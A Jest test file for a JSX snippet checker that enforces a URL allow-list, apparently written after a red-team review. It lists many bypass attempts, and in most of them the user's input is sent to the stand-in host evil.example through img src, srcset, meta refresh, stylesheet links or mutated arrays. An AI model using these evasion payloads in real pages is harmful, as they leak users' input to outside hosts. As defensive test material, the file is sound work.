import { describe, expect, test } from '@jest/globals'
import { readPage } from '../../src/shared/change-check/page-reading.js'
import { readScript } from '../../src/shared/change-check/script-reading.js'

// Issue #52, the red team's third look at the judge of code files (redteam 5): five ways around
// the allow-list, each closed, beside what components do, which still passes. The same attacks
// through the check's bundle are in __tests__/e2e/attacks/code-judge.test.ts.

const SNIPPET = { path: 'snippets/x.jsx', withJsx: true, runsAs: 'module' as const }
const ALLOWED = ['api.allowed.example']

/** What a snippet says: each finding as `kind: detail`. */
const said = (code: string): string[] => {
  const facts = readScript(code, SNIPPET, ALLOWED)
  return [
    ...facts.script.map((f) => `script: ${f.detail}`),
    ...facts.unchecked.map((f) => `unchecked: ${f.detail}`),
  ]
}
/** `body` in a component, the reader's text in `v`. */
const inComponent = (body: string): string =>
  `export const A = ({ children }) => {\n  const [v, setV] = useState('')\n  ${body}\n}\n`

const INTERNALS = (name: string) =>
  `script: the property \`${name}\`, which leads into React's internals and from there to the page`
const ACROSS = (name: string) => `script: the property \`${name}\`, which leads back to the page`
const BUILT = (what: string) => `unchecked: a URL built in code (\`${what}\`)`
const COMPLETES = (what: string) =>
  `script: a URL to evil.example that the code completes (\`${what}\`)`

describe("React's internals, and the ways across to other elements of the page", () => {
  test.each([
    ['const go = (e) => e._targetInst', INTERNALS('_targetInst')],
    ['const go = (e) => { let f = e.x; while (f.return) f = f.return }', INTERNALS('return')],
    ['const go = (f) => f.stateNode', INTERNALS('stateNode')],
    ['const go = (f) => f.containerInfo', INTERNALS('containerInfo')],
    ['const go = (f) => [f.child, 1]', INTERNALS('child')],
    ['const go = (f) => [f.sibling, 1]', INTERNALS('sibling')],
    ['const go = (f) => f.alternate', INTERNALS('alternate')],
    ['const go = (f) => f.memoizedProps', INTERNALS('memoizedProps')],
    ['const go = (f) => f.memoizedState', INTERNALS('memoizedState')],
    ['const go = (f) => f.pendingProps', INTERNALS('pendingProps')],
    [
      'const r = useRef(); const go = () => r.current._reactInternals',
      INTERNALS('_reactInternals'),
    ],
    ['const go = (e) => { const { _targetInst: f } = e; return f }', INTERNALS('_targetInst')],
    ['const go = (e) => e.relatedTarget.value', ACROSS('relatedTarget')],
    ['const go = ({ relatedTarget }) => relatedTarget', ACROSS('relatedTarget')],
    ['const go = (e) => e.target.nextElementSibling', ACROSS('nextElementSibling')],
    ['const go = (e) => e.target.previousSibling', ACROSS('previousSibling')],
    ['const go = (e) => e.target.form.elements', ACROSS('form')],
    ['const go = (e) => e.target.labels', ACROSS('labels')],
    ['const r = useRef(); const go = () => r.current.control.value', ACROSS('control')],
    ['const r = useRef(); const go = () => r.current.shadowRoot', ACROSS('shadowRoot')],
    ['const go = (e) => e.target.ariaLabelledByElements', ACROSS('ariaLabelledByElements')],
    ['const go = (e) => e.target.popoverTargetElement', ACROSS('popoverTargetElement')],
    ['const go = (e) => e.fromElement', ACROSS('fromElement')],
    ['const go = (e) => e.touches[0].target', ACROSS('touches')],
    ['const go = (e) => e.target.nearestViewportElement', ACROSS('nearestViewportElement')],
  ])('%s', (code, expected) => {
    expect(said(inComponent(`${code}\n  return null`))).toContain(expected)
  })

  test('an event’s own element and a ref’s, and what is below them, are the component’s', () => {
    const code = [
      'const ref = useRef(null)',
      'const onKey = (e) => { if (e.key === "Enter") { e.preventDefault(); e.stopPropagation() } }',
      'const onChange = (e) => setV(e.target.value + String(e.currentTarget.checked))',
      'const copy = () => navigator.clipboard.writeText(ref.current.querySelector("code").textContent)',
      'useEffect(() => { ref.current.focus(); ref.current.scrollIntoView({ block: "nearest" }) }, [])',
      'return <div ref={ref} onKeyDown={onKey}><input onChange={onChange} /><button onClick={copy}>Copy</button>{children}</div>',
    ]
    expect(said(inComponent(code.join('\n  ')))).toEqual([])
  })
})

describe('an object or an array changed after its declaration holds anything', () => {
  test.each([
    [
      "const p = { u: '/ok.png' }; p.u = 'https://evil.example/p?d=' + v; return <img src={p.u} />",
      BUILT('src'),
    ],
    [
      "const a = ['/ok.png']; a[0] = 'https://evil.example/p?d=' + v; return <img src={a[0]} />",
      BUILT('src'),
    ],
    [
      "const a = ['/ok.png']; a.unshift('//evil.example/'); return <img src={a[0]} />",
      BUILT('src'),
    ],
    [
      "const a = ['/ok.png']; a.push('java' + 'script:x'); return a.map((u) => <a href={u}>x</a>)",
      BUILT('href'),
    ],
    ["const a = ['/ok.png']; a.splice(0, 1, v); return <img src={a[0]} />", BUILT('src')],
    ["const a = ['/ok.png', v]; a.reverse(); return <img src={a[0]} />", BUILT('src')],
    ["const a = ['/ok.png']; a.fill(v); return <img src={a[0]} />", BUILT('src')],
    ["const a = ['/ok.png']; [a[0]] = [v]; return <img src={a[0]} />", BUILT('src')],
    ["const p = { u: '/ok.png' }; ({ x: p.u } = { x: v }); return <img src={p.u} />", BUILT('src')],
    ["const p = { u: '/ok.png' }; delete p.u; return <img src={p.u} />", BUILT('src')],
    // Through another name, a part, a callback, a call.
    [
      "const a = [{ u: '/ok.png' }]; const b = a; b[0].u = v; return <img src={a[0].u} />",
      BUILT('src'),
    ],
    [
      "const o = { in: { u: '/ok.png' } }; const i = o.in; i.u = v; return <img src={o.in.u} />",
      BUILT('src'),
    ],
    ["const o = { in: { u: '/ok.png' } }; o.in.u = v; return <img src={o.in.u} />", BUILT('src')],
    [
      "const a = [{ u: '/ok.png' }]; a.forEach((x) => { x.u = v }); return <img src={a[0].u} />",
      BUILT('src'),
    ],
    [
      "const a = [{ u: '/ok.png' }]; a.find((x) => x).u = v; return <img src={a[0].u} />",
      BUILT('src'),
    ],
    [
      "const a = [{ u: '/ok.png' }]; a.map((x, i, all) => all.push(x)); return <img src={a[0].u} />",
      BUILT('src'),
    ],
    ["const p = { u: '/ok.png' }; setV(p); return <img src={p.u} />", BUILT('src')],
    [
      "const t = (s, x) => { x.u = v }; const p = { u: '/ok.png' }; t`${p}`; return <img src={p.u} />",
      BUILT('src'),
    ],
    [
      "class X { static [Symbol.hasInstance](x) { x.u = 1 } }; const p = { u: '/a' }; p instanceof X; return <img src={p.u} />",
      BUILT('src'),
    ],
    ["const p = { u: '/ok.png' }; return <Card item={p}><img src={p.u} /></Card>", BUILT('src')],
    [
      "const s = { backgroundImage: 'none' }; s.backgroundImage = 'url(//evil.example/' + v + ')'; return <div style={s} />",
      'unchecked: a style the code computes',
    ],
  ])('%s', (code, expected) => {
    expect(said(inComponent(code))).toContain(expected)
  })

  test('an export may be changed by the modules that import it', () => {
    const code =
      "export const LINK = { to: '/login' }\nexport const A = () => <a href={LINK.to}>x</a>\n"
    expect(said(code)).toEqual([BUILT('href')])
  })

  test('another component that writes into what it is given changes it', () => {
    const code = [
      "const STEPS = [{ src: '/a.png' }]",
      'const Step = ({ item }) => { item.src = String(1); return null }',
      'export const A = () => <div>{STEPS.map((s) => <Step item={s} />)}<img src={STEPS[0].src} /></div>',
    ]
    expect(said(`${code.join('\n')}\n`)).toContain(BUILT('src'))
  })

  test('lists and objects a component only reads, maps, shows and compares keep their texts', () => {
    const code = [
      "const LINKS = [{ href: '/a', label: 'A' }, { href: '/b', label: 'B' }]",
      "const STEPS = ['/a.png', '/b.png']",
      'const Img = ({ src }) => <img src={src} />',
      'export const Nav = () => {',
      '  const [open, setOpen] = useState(LINKS[0].href)',
      "  const names = LINKS.map((l) => l.label).join(', ')",
      "  const style = { backgroundImage: 'url(/bg.png)', color: 'red' }",
      '  return (',
      '    <nav title={names} style={style}>',
      "      {LINKS.map((l, i) => <a key={l.href} href={l.href} onClick={() => setOpen(i)} className={open === l.href ? 'on' : ''}>{l.label}</a>)}",
      '      {LINKS.length > 1 ? <span style={style}>{LINKS[1].label}</span> : null}',
      '      {STEPS.map((src) => <Img key={src} src={src} />)}',
      '      <img src={STEPS[0]} alt={`${STEPS.length} steps`} />',
      '    </nav>',
      '  )',
      '}',
    ]
    expect(said(`${code.join('\n')}\n`)).toEqual([])
  })
})

describe('a start is judged by the host a browser resolves it to', () => {
  test.each([
    "'//evil.example/p?d=' + v",
    "'/\\\\evil.example/p?d=' + v",
    "'\\\\\\\\evil.example/p?d=' + v",
    "'http:evil.example/p?d=' + v",
    "'HTTP:/evil.example/p?d=' + v",
    "' \\t/\\n/evil.example/p?d=' + v",
    '`//evil.example/p?d=${v}`',
  ])('%s', (start) => {
    expect(said(inComponent(`return <img src={${start}} />`))).toEqual([COMPLETES('src')])
  })

  test.each([
    "'/guides/' + v",
    "'#' + v",
    "'?q=' + v",
    "'./' + v",
    "'../' + v",
    "'Step ' + v",
    "'https:/guides/' + v",
    "'//api.allowed.example/p?d=' + v",
    "'mailto:' + v",
    // What follows is the page's text, a prop: no reader's text goes with it.
    '`/${children}`',
    "'https://' + children",
  ])('%s stays where it was', (start) => {
    expect(said(inComponent(`return <img src={${start}} />`))).toEqual([])
  })

  test.each([
    "'/' + ['', 'evil.example', 'p?d=' + v].join('/')",
    "'https://' + ['evil.example', 'p?d=' + v].join('/')",
    "'//' + v",
    "'//evil.' + v",
    "'\\\\' + v",
    '`/${children}?q=${v}`',
  ])('%s leaves the host to what the code computes after it', (start) => {
    expect(said(inComponent(`return <img src={${start}} />`))).toEqual([
      'unchecked: a URL whose host the code computes (`src`)',
    ])
  })

  test("a page's URL expression names the host the same way: a link to it", () => {
    const facts = readPage(
      "---\ntitle: Q\n---\n\n# Q\n\n<a href={'/\\\\evil.example/p?d=' + name}>x</a>\n",
    )
    expect(facts.urls).toEqual([{ line: 7, url: '/\\evil.example/p?d=' }])
  })
})

describe('a meta refresh and a stylesheet however the code gives them', () => {
  const REFRESH = "httpEquiv: 'refresh', content: '0;url=https://evil.example/'"
  const SHEET = "rel: 'stylesheet', href: 'https://evil.example/a.css'"
  test.each([
    [`React.createElement('meta', { ${REFRESH} })`, 'script: <meta> refresh'],
    [`<meta {...{ ${REFRESH} }} />`, 'script: <meta> refresh'],
    [
      "<meta httpEquiv={v ? 'refresh' : 'refresh'} content=\"0;url=https://evil.example/\" />",
      'script: <meta> refresh',
    ],
    [`React.cloneElement(children, { ${REFRESH} })`, 'script: <meta> refresh'],
    [`React.createElement('link', { ${SHEET} })`, 'script: a <link> to evil.example'],
    [`<link {...{ ${SHEET} }} />`, 'script: a <link> to evil.example'],
    [
      "<link rel={v ? 'stylesheet' : 'stylesheet'} href=\"https://evil.example/a.css\" />",
      'script: a <link> to evil.example',
    ],
    [`React.cloneElement(children, { ${SHEET} })`, 'script: a <link> to evil.example'],
    [
      "React.cloneElement(children, { href: 'https://evil.example/a.css' })",
      'unchecked: cloneElement giving `href` to an element the check cannot see',
    ],
    // What the check cannot fold to one text decides nothing: a person reads it.
    [
      "<meta httpEquiv={v ? 'refresh' : 'x'} content=\"0;url=https://evil.example/\" />",
      'unchecked: a <meta> whose http-equiv the code computes',
    ],
    [
      '<link rel={v} href="https://evil.example/a.css" />',
      'unchecked: a <link> whose rel the code computes',
    ],
    [`<link {...(v ? { ${SHEET} } : {})} />`, 'unchecked: a <link> whose rel the code computes'],
    ['<meta {...children} />', 'unchecked: a <meta> whose http-equiv the code computes'],
    // A type given as a string is an element of the page, whatever its case.
    ["React.createElement('SCRIPT', { src: '/x.js' })", 'script: <script> element'],
  ])('%s', (code, expected) => {
    expect(said(inComponent(`return ${code}`))).toContain(expected)
  })

  test('an icon, a description and a preload of the site’s own image pass', () => {
    const code = [
      '<>',
      '<link rel="icon" href="/favicon.png" />',
      '<meta name="description" content="Docs" />',
      '<link rel="preload" as="image" href="/a.png" imageSrcSet="/a.png 1x, /a2.png 2x" />',
      "{React.cloneElement(children, { className: 'x', href: '/guides/next' })}",
      '</>',
    ]
    expect(said(inComponent(`return ${code.join('\n')}`))).toEqual([])
  })
})

describe('every attribute that takes a URL', () => {
  test('each candidate of a srcset is a URL of its own', () => {
    const later = "return <img srcSet={'/a.png 1x, https://evil.example/b.png?d=' + v + ' 2x'} />"
    expect(said(inComponent(later))).toContain(COMPLETES('srcSet'))
    // What the code computes may add candidates of any host.
    const added = "return <img srcSet={'/a.png?x=' + v + ' 1x'} />"
    expect(said(inComponent(added))).toEqual([BUILT('srcSet')])
    const written = 'return <img srcSet="/a.png 1x,https://evil.example/b.png 2x" />'
    expect(readScript(inComponent(written), SNIPPET, ALLOWED).urls).toEqual([
      { line: 3, url: 'https://evil.example/b.png' },
    ])
    const own = 'return <img srcSet={`/img/${children}.png 1x, /img/${children}@2x.png 2x`} />'
    expect(said(inComponent(own))).toEqual([])
  })

  test.each(['imageSrcSet', 'imagesrcset', 'attributionSrc', 'lowsrc', 'dynsrc', 'longDesc'])(
    '%s',
    (name) => {
      const code = `return <img ${name}={'https://evil.example/p?d=' + v} />`
      expect(said(inComponent(code))).toContain(COMPLETES(name))
    },
  )
})
